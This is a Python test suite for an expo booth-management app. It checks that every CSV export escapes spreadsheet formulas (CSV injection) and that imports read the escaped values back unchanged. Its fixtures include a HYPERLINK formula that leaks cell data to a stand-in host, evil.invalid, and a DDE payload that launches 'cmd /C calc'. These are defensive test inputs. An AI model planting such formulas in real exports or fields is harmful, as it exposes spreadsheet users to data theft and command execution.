"""Every CSV the project writes neutralises spreadsheet formulas (OWASP "CSV injection"), through one
writer; the booth and feature imports read their exports back unchanged."""

import csv
import io
from collections.abc import Awaitable, Callable

import pytest
import sqlalchemy as sa
from litestar import Litestar
from sqlalchemy.ext.asyncio import AsyncSession
from sqlmodel import col

from booths.venue.models import Booth
from expo.csv_export import CsvSheet, csv_text, neutralise, restore
from expo.models import Role
from tests.support import ROOT
from tests.support.factories import (
    bearer,
    exhibitor_payload,
    expo_day,
    make_user_token,
    make_venue,
    signup_exhibitor,
)
from tests.support.gate import gate_over_http, nonce, now_iso, pass_over_http
from tests.support.passes import Client
from tests.support.sales import exhibitor_with_booth
from tickets.leads.models import Lead

pytestmark = pytest.mark.anyio

HYPERLINK = '=HYPERLINK("http://evil.invalid/?x="&A1,"klik")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _cells(text: str) -> list[str]:
    return [cell for row in _rows(text)[1:] for cell in row]


def _assert_no_formula(text: str) -> None:
    """No cell a spreadsheet would evaluate (a negative number is a number, not a formula)."""
    for cell in _cells(text):
        if cell.startswith(DANGEROUS):
            try:
                float(cell)
            except ValueError:
                pytest.fail(f"cell {cell!r} would run as a formula")


@pytest.mark.parametrize(
    ("raw", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+62 812", "'+62 812"),
        ("-abc", "'-abc"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+2", "'\t=1+2"),  # never stripped into "=1+2"
        ("\r=1+2", "'\r=1+2"),
        ("'=1+2", "''=1+2"),  # a quote of its own stays after reading back
        (" =1+2", " =1+2"),
        ("Budi", "Budi"),
        ("", ""),
    ],
)
def test_text_cells_are_neutralised_and_restored(raw: str, written: str) -> None:
    assert neutralise(raw) == written
    assert restore(neutralise(raw)) == raw


def test_numbers_stay_numbers_and_text_that_looks_like_one_does_not() -> None:
    text = csv_text(["a", "b", "c", "d", "e"], [[-3, -2.5, 1234.567, "-3", None]])
    assert _rows(text)[1] == ["-3", "-2.5", "1234.567", "'-3", ""]
    sheet = CsvSheet(["x"])
    sheet.row([True])
    assert sheet.take() == "x\n1\n"


async def _scan(client: Client, device: dict[str, str], token: str) -> None:
    body = {"text": token, "direction": "entry", "client_scan_id": nonce(), "scanned_at": now_iso()}
    response = await client.post("/api/gate/scans", json=body, headers=device)
    assert response.status_code == 200, response.text


async def _booths_csv(client: Client, session: AsyncSession, organiser: dict[str, str]) -> tuple[str, str]:
    venue = await make_venue(session)
    first, second = venue.booth_ids[:2]
    blocked = await client.post(f"/api/booths/{first}/block", json={"reason": HYPERLINK}, headers=organiser)
    assert blocked.status_code == 200, blocked.text
    # The API strips spaces around a reason; older data or a future form may still hold a leading tab.
    await client.post(f"/api/booths/{second}/block", json={"reason": "x"}, headers=organiser)
    await session.execute(sa.update(Booth).where(col(Booth.id) == second).values(blocked_reason="\t=1+2"))
    await session.commit()
    path = f"/api/expos/{venue.expo_id}/booths.csv"
    return path, (await client.get(path, headers=organiser)).text


async def _features_csv(client: Client, session: AsyncSession, organiser: dict[str, str]) -> tuple[str, str]:
    venue = await make_venue(session)
    created = await client.post(
        f"/api/expos/{venue.expo_id}/features",
        json={"hall_id": venue.hall.id, "kind": "entrance", "label": "@SUM(1+1)*cmd|' /C calc'!A0", "x_m": 0, "y_m": 0}
        | {"width_m": 2, "depth_m": 1},
        headers=organiser,
    )
    assert created.status_code in {200, 201}, created.text
    path = f"/api/expos/{venue.expo_id}/features.csv"
    return path, (await client.get(path, headers=organiser)).text


async def _scans_csv(client: Client, session: AsyncSession, _organiser: dict[str, str]) -> tuple[str, str]:
    expo_id, organiser, device = await gate_over_http(client, session, name="-Gerbang+")
    await _scan(client, device, await pass_over_http(client, expo_id, organiser, HYPERLINK))
    await _scan(client, device, await pass_over_http(client, expo_id, organiser, "+62 812 3456"))
    path = f"/api/expos/{expo_id}/scans.csv"
    text = (await client.get(path, headers=organiser)).text
    assert all(row[1].endswith("Z") and row[2].endswith("Z") for row in _rows(text)[1:])  # times in UTC
    return path, text


async def _exhibitors_csv(client: Client, session: AsyncSession, organiser: dict[str, str]) -> tuple[str, str]:
    venue = await make_venue(session)
    body = exhibitor_payload(name=HYPERLINK, contact_name="-Pemilik", exhibitor_class="umkm")
    body.pop("password")
    created = await client.post(f"/api/expos/{venue.expo_id}/exhibitors", json=body, headers=organiser)
    assert created.status_code == 201, created.text
    path = f"/admin/e/{venue.expo.slug}/exhibitors.csv"
    return path, (await client.get(path, headers=organiser)).text


async def _addon_orders_csv(client: Client, session: AsyncSession, organiser: dict[str, str]) -> tuple[str, str]:
    """A fascia board whose text an exhibitor typed as a formula, on the logistics list."""
    from booths.billing.addon_schemas import AddOnIn, AddOnOrderIn
    from booths.billing.addons import create_addon, order_addon
    from booths.billing.models import AddOnKind
    from expo.accounts import system_user

    venue = await make_venue(session)
    _, token = await signup_exhibitor(client, venue.expo_id, exhibitor_class="umkm")
    held = await client.post(f"/api/booths/{venue.booth_ids[0]}/hold", headers=bearer(token))
    assert held.status_code == 201, held.text
    fascia = await create_addon(
        session,
        venue.expo_id,
        AddOnIn(code="fascia", kind=AddOnKind.FASCIA, name="-Papan nama", price=50_000),
        system_user(),
    )
    assert fascia.id is not None
    await order_addon(session, int(held.json()["id"]), AddOnOrderIn(addon_id=fascia.id, text=HYPERLINK), system_user())
    await session.commit()
    path = f"/admin/e/{venue.expo.slug}/payments/addons/orders.csv"
    return path, (await client.get(path, headers=organiser)).text


async def _catalogue_stats_csv(client: Client, session: AsyncSession, organiser: dict[str, str]) -> tuple[str, str]:
    """An exhibitor whose name is a formula, counted once: its line of the catalogue statistics."""
    from booths.catalogue.models import StatKind
    from booths.catalogue.stats import count
    from tests.support.factories import expo_day

    venue = await make_venue(session)
    body, _ = await signup_exhibitor(client, venue.expo_id, name=HYPERLINK, regency="-Kediri")
    await count(session, venue.expo_id, int(body["id"]), StatKind.PROFILE_VIEW, expo_day(0))
    await session.commit()
    path = f"/admin/e/{venue.expo.slug}/catalogue-stats.csv"
    return path, (await client.get(path, headers=organiser)).text


async def _leads_csv(
    client: Client, session: AsyncSession, organiser: dict[str, str]
) -> tuple[str, str, dict[str, str]]:
    """An exhibitor's own leads: a visitor's name and the exhibitor's note as formulas."""
    venue = await make_venue(session)
    _exhibitor, _user, token = await exhibitor_with_booth(client, session, venue)
    registered = await client.post(
        f"/api/expos/{venue.expo_id}/visitors",
        json={
            "holder_name": "@SUM(1+1)",
            "regency": "Jombang",
            "category": "umum",
            "days": [expo_day(1).isoformat()],
            "phone": "0812 3456 7890",
            "shares_contact": True,
        },
    )
    assert registered.status_code == 201, registered.text
    exhibitor = {"Authorization": f"Bearer {token}"}
    saved = await client.post("/api/my/leads", json={"text": registered.json()["token"]}, headers=exhibitor)
    assert saved.status_code == 200, saved.text
    lead = await session.get(Lead, saved.json()["lead_id"])
    assert lead is not None
    lead.note = HYPERLINK
    await session.commit()
    return "/my-leads.csv", (await client.get("/my-leads.csv", headers=exhibitor)).text, exhibitor


# What a filler gives: the path and its text, and for an exhibitor's own export the headers it is
# read with (else the organiser's).
Made = tuple[str, str] | tuple[str, str, dict[str, str]]

# Every route that answers text/csv, with a way to fill it with formula-like values through the API.
EXPORTS: dict[str, Callable[[Client, AsyncSession, dict[str, str]], Awaitable[Made]]] = {
    "/api/expos/{expo_id:int}/booths.csv": _booths_csv,
    "/api/expos/{expo_id:int}/features.csv": _features_csv,
    "/api/expos/{expo_id:int}/scans.csv": _scans_csv,
    "/admin/e/{slug:str}/exhibitors.csv": _exhibitors_csv,
    "/admin/e/{slug:str}/payments/addons/orders.csv": _addon_orders_csv,
    "/admin/e/{slug:str}/catalogue-stats.csv": _catalogue_stats_csv,
    "/my-leads.csv": _leads_csv,
}


def _csv_routes(app: Litestar) -> set[str]:
    found = set()
    for route in app.routes:
        for handler in getattr(route, "route_handlers", []):
            if "csv" in str(handler.media_type) or route.path.endswith(".csv"):
                found.add(route.path)
    return found


def test_every_csv_route_is_covered_here(app: Litestar) -> None:
    """A new export must be added to EXPORTS (and so be checked for formulas) before this passes."""
    assert _csv_routes(app) == set(EXPORTS)


def test_no_module_writes_csv_on_its_own() -> None:
    """Only expo/csv_export.py may make CSV writers or name the CSV content type."""
    offenders = []
    for package in ("expo", "booths", "tickets"):
        for path in (ROOT / package).rglob("*.py"):
            if path.name == "csv_export.py":
                continue
            text = path.read_text()
            if "csv.writer(" in text or "DictWriter" in text or '"text/csv' in text:
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


@pytest.mark.parametrize("route", sorted(EXPORTS))
async def test_exports_hold_no_formula_and_send_one_content_type(
    client: Client, session: AsyncSession, route: str
) -> None:
    organiser = bearer(await make_user_token(session, Role.ORGANISER))
    made = await EXPORTS[route](client, session, organiser)
    path, text = made[0], made[1]
    response = await client.get(path, headers=made[2] if len(made) == 3 else organiser)
    assert response.status_code == 200
    assert response.headers.get_list("content-type") == ["text/csv; charset=utf-8"]
    assert len(_rows(text)) > 1
    _assert_no_formula(text)
    assert any(cell.startswith("'") and cell[1:2] in DANGEROUS for cell in _cells(text)), text


async def test_booth_and_feature_exports_import_back_unchanged(client: Client, session: AsyncSession) -> None:
    organiser = bearer(await make_user_token(session, Role.ORGANISER))
    for make, importer in ((_booths_csv, "booths/import"), (_features_csv, "features/import")):
        path, text = await make(client, session, organiser)
        expo_path = path.rsplit("/", 1)[0]
        imported = await client.post(
            f"{expo_path}/{importer}",
            content=text.encode(),
            headers=organiser | {"Content-Type": "text/csv"},
        )
        assert imported.status_code == 200, imported.text
        again = (await client.get(path, headers=organiser)).text
        assert again == text
    reasons = set((await session.scalars(sa.select(col(Booth.blocked_reason)))).all())
    assert {"\t=1+2", HYPERLINK} <= reasons
